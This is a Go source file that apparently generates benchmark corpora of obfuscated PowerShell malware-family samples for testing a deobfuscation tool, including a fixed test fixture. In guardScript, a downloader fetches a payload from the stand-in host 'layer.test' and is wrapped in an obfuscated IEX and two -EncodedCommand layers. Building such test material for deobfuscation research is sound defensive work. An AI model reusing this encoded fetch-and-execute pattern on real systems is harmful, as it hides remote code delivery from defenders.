package main

import (
	"encoding/base64"
	"fmt"
	"hash/fnv"
	"math/rand"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
	"github.com/invoke-deobfuscation/invokedeob/internal/keyinfo"
	"github.com/invoke-deobfuscation/invokedeob/internal/obfuscate"
)

// planSeed fixes the per-slot technique stacks of every generated
// corpus. The --seed argument picks the scripts and the obfuscator's
// random choices; the stack shape of slot i (how many wrapper layers,
// which encodings) is the same for every seed. A plain corpus.Generate
// draws stacks per seed, and the few deepest wrapper stacks then swing
// one pass's wall time 1.8-7.5 s between seeds (200 samples); with the
// stacks fixed it stays within about ±10%.
const planSeed = 20220627

// gauntletSeed is the gauntlet grid the repo's GAUNTLET.json freezes.
// A grid's wall time is dominated by a handful of deep-wrapper cells,
// and it swings 4.2-9.2 s between seeds 1-5, so the gauntlet workload
// always runs this one grid and --seed does not change its inputs.
const gauntletSeed = 7

// families are the corpus script families, assigned to slots round
// robin so every corpus has the same family mix.
var families = []corpus.Family{
	corpus.FamilyDownloader, corpus.FamilyDropper, corpus.FamilyBeacon,
	corpus.FamilyRecon, corpus.FamilyPersistence, corpus.FamilyWiper,
	corpus.FamilyRansomNote, corpus.FamilyLoader, corpus.FamilyStagedLoader,
	corpus.FamilyBinaryDropper,
}

// sample is one generated script with its ground truth.
type sample struct {
	ID       string
	Source   string
	Original string
	Truth    *keyinfo.Info
}

// slot is one corpus position: the family and technique stack that
// every seed's sample in that position gets.
type slot struct {
	family corpus.Family
	stack  []obfuscate.Technique
}

// mix derives a per-item seed from a base seed and a label.
func mix(seed int64, label string, i int) int64 {
	h := fnv.New64a()
	fmt.Fprintf(h, "%d|%s|%d", seed, label, i)
	return int64(h.Sum64() >> 1)
}

// stackPlan draws n slots from planSeed with the corpus generator's
// stack distribution (Table I level mix: inner L2 90%, inner L1 60%,
// one to three L3 wrappers 96%, outer L2 97%, outer L1 98.5%, about
// 1.2% left plain).
func stackPlan(n int) []slot {
	rng := rand.New(rand.NewSource(planSeed))
	l1 := []obfuscate.Technique{
		obfuscate.RandomName, obfuscate.Alias, obfuscate.Ticking,
		obfuscate.RandomCase, obfuscate.Whitespacing,
	}
	l2 := []obfuscate.Technique{
		obfuscate.Concat, obfuscate.Reorder, obfuscate.Replace, obfuscate.Reverse,
	}
	l3 := []obfuscate.Technique{
		obfuscate.EncodeBase64, obfuscate.EncodeBxor, obfuscate.EncodeASCII,
		obfuscate.EncodeHex, obfuscate.EncodeBinary, obfuscate.EncodeOctal,
		obfuscate.EncodeSpecialChar, obfuscate.SecureString,
		obfuscate.CompressDeflate, obfuscate.CompressGzip,
	}
	plan := make([]slot, n)
	for i := range plan {
		plan[i].family = families[i%len(families)]
		if rng.Float64() < 0.012 {
			continue
		}
		var st []obfuscate.Technique
		addL1 := func(count int) {
			pool := append([]obfuscate.Technique(nil), l1...)
			rng.Shuffle(len(pool), func(a, b int) { pool[a], pool[b] = pool[b], pool[a] })
			st = append(st, pool[:count]...)
		}
		if rng.Float64() < 0.9 {
			st = append(st, l2[rng.Intn(len(l2))])
		}
		if rng.Float64() < 0.6 {
			addL1(1 + rng.Intn(2))
		}
		if rng.Float64() < 0.96 {
			layers := 1
			for layers < 3 && rng.Float64() < 0.28 {
				layers++
			}
			for k := 0; k < layers; k++ {
				st = append(st, l3[rng.Intn(len(l3))])
			}
		}
		if rng.Float64() < 0.97 {
			st = append(st, l2[rng.Intn(len(l2))])
		}
		if rng.Float64() < 0.985 {
			addL1(2 + rng.Intn(3))
		}
		plan[i].stack = st
	}
	return plan
}

// genCorpus builds n obfuscated samples for a seed: clean scripts of
// each slot's family from corpus.Generate, obfuscated with the slot's
// stack by an obfuscator seeded from (seed, slot).
func genCorpus(seed int64, n int) []sample {
	clean := corpus.Generate(corpus.Config{Seed: seed, N: 3 * n, PlainFraction: 1})
	used := make([]bool, len(clean))
	pick := func(f corpus.Family) *corpus.Sample {
		fallback := -1
		for j, c := range clean {
			if used[j] {
				continue
			}
			if c.Family == f {
				used[j] = true
				return c
			}
			if fallback < 0 {
				fallback = j
			}
		}
		used[fallback] = true
		return clean[fallback]
	}
	out := make([]sample, n)
	for i, sl := range stackPlan(n) {
		c := pick(sl.family)
		s := sample{
			ID:       fmt.Sprintf("s%d-%04d", seed, i),
			Source:   c.Original,
			Original: c.Original,
			Truth:    c.KeyInfo,
		}
		if len(sl.stack) > 0 {
			obf, _, err := obfuscate.New(mix(seed, "obf", i)).ApplyStack(c.Original, sl.stack)
			if err == nil && obf != "" {
				s.Source = obf
			}
		}
		out[i] = s
	}
	return out
}

// serveSchedule lists the script each of total requests sends, over
// (total+1)/2 scripts: every script is sent twice, so half the requests
// repeat a script an earlier request sent (near-clone families in a
// malware feed). Like the stack plan, the order comes from planSeed:
// which slot is sent when is the same for every seed, so the heavy
// requests, and the queueing they cause, fall at the same times.
func serveSchedule(total int) []int {
	order := make([]int, 0, total+1)
	for i := 0; i < (total+1)/2; i++ {
		order = append(order, i, i)
	}
	rng := rand.New(rand.NewSource(planSeed))
	rng.Shuffle(len(order), func(a, b int) { order[a], order[b] = order[b], order[a] })
	return order[:total]
}

// guardScript is the fixed 3-layer parse-amortization fixture (a
// downloader wrapped in -EncodedCommand, in a string-concat IEX, in
// another -EncodedCommand) whose parse count the repo's guard test
// pins at 8.
func guardScript() string {
	enc := func(s string) string {
		buf := make([]byte, 0, len(s)*2)
		for _, r := range s {
			if r > 0xFFFF {
				r = '?'
			}
			buf = append(buf, byte(r), byte(r>>8))
		}
		return base64.StdEncoding.EncodeToString(buf)
	}
	inner := "$u = 'http://layer.test/payload.ps1'\n" +
		"(New-Object Net.WebClient).DownloadString($u)\n"
	layer2 := "powershell -EncodedCommand " + enc(inner)
	layer1 := "I`eX ('" + strings.ReplaceAll(layer2, "'", "''") + "')"
	return "powershell -enc " + enc(layer1) + "\n"
}
